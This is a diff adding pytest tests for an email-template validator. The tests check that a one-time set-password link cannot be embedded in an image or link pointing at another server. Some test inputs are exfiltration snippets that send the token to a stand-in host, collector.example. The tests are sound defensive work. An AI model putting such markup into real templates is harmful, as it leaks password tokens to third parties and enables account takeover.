@@ -55,3 +55,32 @@ def test_quoted_values_text_and_a_link_stay_allowed_and_the_title_stays_one_attr
     assert validate(PRESENTER, "Subject", "Text", html) == []
     out = render(PRESENTER, "Subject", "Text", html, PRESENTER.examples() | {"title": HOSTILE_TITLE})
     assert f'<p title="{HOSTILE_TITLE}"' in out.html
+
+
+INVITATION = spec_for("reviewer.invitation")
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<img src="https://collector.example/p.png?l={{ set_password_link }}" alt="">',
+        "<img src='https://collector.example/p.png?l={{ set_password_link }}'>",
+        '<a href="https://collector.example/?next={{ set_password_link }}">set your password</a>',
+        '<a href="{{ set_password_link }}&again={{ set_password_link }}">x</a>',
+    ],
+)
+def test_a_one_time_link_is_the_whole_address_never_part_of_another_servers(html):
+    """An edited template (by an admin, or by someone who was one) must not hand every
+    new invitation's link to another server: an image there is fetched, with the link,
+    when the message is opened, before the reviewer has used it."""
+    problems = validate(INVITATION, "Subject", "Text", html)
+    assert [p.part for p in problems] == ["html"], html
+    assert "set_password_link must be the whole address" in problems[0].message
+
+
+def test_a_link_as_the_whole_address_quoted_or_not_stays_allowed():
+    html = (
+        "<a href=\"{{ set_password_link }}\">set</a> <a href='{{ set_password_link }}'>set</a>"
+        ' <a href={{ set_password_link }}>set</a> <a href = "{{ set_password_link }}">set</a>'
+    )
+    assert validate(INVITATION, "Subject", "Text", html) == []
